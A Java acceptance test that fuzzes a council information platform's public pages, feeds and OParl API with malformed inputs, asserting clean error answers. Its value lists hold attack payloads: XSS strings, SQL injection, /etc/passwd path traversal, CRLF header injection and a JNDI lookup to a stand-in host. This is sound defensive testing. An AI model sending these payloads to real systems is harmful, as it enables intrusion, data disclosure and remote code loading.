package de.kreiswerk.runtime.acceptance;

import static org.assertj.core.api.Assertions.assertThat;

import de.kreiswerk.runtime.acceptance.fixture.OnEachDatabase;
import de.kreiswerk.runtime.acceptance.fixture.PapersClient;
import de.kreiswerk.runtime.acceptance.fixture.Platform;
import de.kreiswerk.runtime.acceptance.fixture.RawHttp;
import de.kreiswerk.runtime.acceptance.fixture.Reply;
import de.kreiswerk.runtime.acceptance.fixture.Vorlage;
import de.kreiswerk.runtime.acceptance.fixture.WithCouncil;
import de.kreiswerk.runtime.acceptance.fixture.oparl.OParlClient;
import java.net.URI;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * Addresses that nobody should send, to pages, feeds, calendars and OParl: each gets a clear answer, never a fault. That no
 * error is logged meanwhile is checked for every test.
 */
class PublicBadInputTest {

    private static final String SCRIPT = "<script>alert(1)</script>";
    private static final List<String> PAGES =
            List.of("/vorlagen", "/vorlagen.atom", "/sitzungen", "/sitzungen.ics", "/", "/impressum");
    private static final List<String> FILTERS =
            List.of("suche", "jahr", "art", "gremium", "stand", "nach", "vor", "bis", "unbekannt");
    private static final List<String> OPARL = List.of(
            "created_since",
            "created_until",
            "modified_since",
            "modified_until",
            "limit",
            "omit_internal",
            "after",
            "page");

    /** Every value for every filter with {@code -Pfull}; else each filter gets every fourth, together they get all. */
    private static List<String> values(int filter) {
        List<String> all = values();
        int step = Boolean.getBoolean("kreiswerk.full") ? 1 : 4;
        List<String> some = new ArrayList<>();
        for (int i = filter % step; i < all.size(); i += step) {
            some.add(all.get(i));
        }
        return some;
    }

    private static List<String> values() {
        return List.of(
                "",
                "%20",
                "+",
                "gestern",
                "2026-13-45",
                "2026-06-10",
                "2026-06-10T16:00:00",
                "2026-06-10T16:00:00+02:00",
                "2026-06-10T16%3A00%3A00%2B02%3A00",
                "2026-06-10T16:00:00%2B99:99",
                "9999999999-01-01T00:00:00Z",
                "-1",
                "0",
                "99999999999999999999",
                "1e9",
                "NaN",
                "true",
                "00000000-0000-7000-8000-000000000000",
                "00000000-0000-7000-8000-00000000000g",
                "' or 1=1 --",
                "%",
                "%25%5F%5C",
                "%00",
                "a%00b",
                "%01%08%1b%7f",
                "%0d%0aX-Eigene:%201",
                "%c3%28",
                "%ff%fe",
                "%ud800",
                "%zz",
                "%f0%9f%9a%b2",
                "..%2f..%2fetc%2fpasswd",
                "%24%7bjndi:ldap://boese.example/a%7d",
                PapersClient.encoded(SCRIPT),
                PapersClient.encoded("\"><img src=x onerror=alert(1)>"),
                "x".repeat(201),
                "x%20".repeat(300),
                "a".repeat(10_240));
    }

    @OnEachDatabase
    void noFilterOfAPageOrFeedIsTakenAback(@WithCouncil Platform platform) {
        for (String page : PAGES) {
            for (String filter : FILTERS) {
                for (String value : values(FILTERS.indexOf(filter))) {
                    check(platform, page + "?" + filter + "=" + value);
                }
            }
            check(platform, page + "?" + "a=b&".repeat(2_000));
            check(platform, page + "?jahr=&suche=" + ",".repeat(10_240));
            check(platform, page + "?suche=a&suche=b&jahr=2026&jahr=2027");
            check(platform, page + "?=&&=x&?&%3D");
        }
    }

    @OnEachDatabase
    void noFilterOfOParlIsTakenAback(@WithCouncil Platform platform) {
        OParlClient client = new OParlClient(platform);
        String host = platform.url().toString();
        List<String> addresses = new ArrayList<>(List.of(client.listOf("Paper"), client.listOf("Meeting")));
        addresses.add(client.json(client.root()).path("body").asText());
        addresses.add(client.root());
        addresses.add(client.list(client.listOf("Paper")).keySet().iterator().next());
        for (String address : addresses) {
            String path = address.substring(host.length());
            for (String filter : OPARL) {
                for (String value : values(OPARL.indexOf(filter))) {
                    check(platform, path + "?" + filter + "=" + value);
                }
            }
            check(platform, path + "?" + "a=b&".repeat(2_000));
        }
    }

    @OnEachDatabase
    void wrongFilterIsNamedAndTheRightOneShown(@WithCouncil Platform platform) {
        OParlClient client = new OParlClient(platform);
        Map<String, String> wrong = new LinkedHashMap<>();
        for (String time : List.of("created_since", "created_until", "modified_since", "modified_until")) {
            for (String value :
                    List.of("gestern", "2026-06-10", "2026-06-10T16:00:00", "2026-13-10T16:00:00%2B02:00")) {
                wrong.put(time + "=" + value, time);
            }
        }
        wrong.put("limit=viele", "limit");
        wrong.put("omit_internal=ja", "omit_internal");
        wrong.put("after=x", "after");
        wrong.put("seite=3", "seite");
        wrong.forEach((query, name) -> {
            Reply reply = client.get(client.listOf("Paper") + "?" + query).is(400);
            assertThat(reply.field("type")).isEqualTo(OParlClient.SCHEMA + "Error");
            assertThat(reply.field("message")).as(query).contains(name);
        });
        for (String query : List.of("jahr=gestern", "gremium=keines", "art=keine", "stand=keiner", "nach=x")) {
            Reply reply = platform.stranger().get("/vorlagen?" + query).is(400);
            assertThat(reply.header("Content-Type")).as(query).startsWith("text/html");
        }
    }

    @OnEachDatabase
    void unreadableAddressIsRefused(Platform platform) {
        for (String target : List.of(
                "/vorlagen?suche=%",
                "/vorlagen?suche=%zz",
                "/vorlagen?suche=\u0001",
                "/vorlagen?suche=a\\b",
                "/vorlagen?suche=<script>",
                "/vorlagen/%00",
                "/vorlagen/..%2f..%2fetc%2fpasswd",
                "/vorlagen/%2e%2e/%2e%2e/etc/passwd",
                "/vorlagen;x=y",
                "/sitzungen/%ff",
                "/sitzungen/" + "a".repeat(9_000),
                "/oparl/v1/paper/%00",
                "/oparl/v1/paper/..%2f..%2fhealth",
                "/oparl/v1/../../etc/passwd",
                "/oparl/%zz",
                "/vorlagen?" + "a".repeat(70_000),
                "//vorlagen",
                "vorlagen",
                "*")) {
            RawHttp.Answer answer = RawHttp.exchange(
                    platform, "GET " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
            assertThat(answer.status()).as(shown(target)).isBetween(200, 499);
            assertThat(answer.body()).as(shown(target)).doesNotContain("root:", "Exception", "<script>alert");
        }
    }

    @OnEachDatabase
    void partsThatAreNotThereAreRefused(Platform platform) {
        Reply imported = platform.papers()
                .importAndPublish(Vorlage.numbered(platform.freshReference())
                        .attaching("Plan", "öffentlich")
                        .text())
                .is(201);
        platform.papers()
                .attach(imported.field("id"), 1, "plan.pdf", "application/pdf", Sitting.BYTES)
                .is(200);
        OParlClient client = new OParlClient(platform);
        String access = client.json(client.paper(imported.field("id")))
                .path("auxiliaryFile")
                .path(0)
                .path("accessUrl")
                .asText()
                .substring(platform.url().toString().length());
        String page = URI.create(imported.field("url")).getPath() + "/anlagen/1";
        for (String file : List.of(access, page)) {
            for (String range : List.of("bytes=999999-", "bytes=-0")) {
                assertThat(platform.stranger().get(file, "Range", range).status())
                        .as(file + " " + range)
                        .isEqualTo(416);
            }
            for (String range : List.of(
                    "bytes=99999999999999999999-",
                    "bytes=5-2",
                    "bytes=a-b",
                    "bytes=",
                    "bytes=--1",
                    "seiten=1-2",
                    "bytes=0-0,2-3",
                    "")) {
                assertThat(platform.stranger().get(file, "Range", range).status())
                        .as(file + " " + range)
                        .isIn(200, 206, 416);
            }
            for (String header :
                    List.of("If-Modified-Since", "If-Unmodified-Since", "If-Range", "If-None-Match", "If-Match")) {
                assertThat(platform.stranger()
                                .get(file, header, "gestern", "Range", "bytes=0-1")
                                .status())
                        .as(file + " " + header)
                        .isIn(200, 206, 304, 412);
            }
        }
    }

    private static void check(Platform platform, String address) {
        if (!isUri(address)) {
            RawHttp.Answer answer = RawHttp.exchange(
                    platform,
                    "GET " + address.replace(" ", "%20") + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
            assertThat(answer.status()).as(shown(address)).isBetween(200, 499);
            return;
        }
        Reply reply = platform.stranger().get(address);
        assertThat(reply.status()).as(shown(address)).isBetween(200, 499).isNotIn(401, 403);
        assertThat(reply.text()).as(shown(address)).doesNotContain(SCRIPT, "<img src=x", "Exception", "de.kreiswerk");
        assertThat(reply.headers().map()).as(shown(address)).doesNotContainKey("X-Eigene");
        if (reply.status() >= 400) {
            assertThat(reply.text()).as(shown(address)).isNotBlank();
        }
    }

    private static boolean isUri(String address) {
        try {
            URI.create(address);
            return true;
        } catch (IllegalArgumentException e) {
            return false;
        }
    }

    private static String shown(String address) {
        return address.length() > 200 ? address.substring(0, 200) + "…" : address;
    }
}
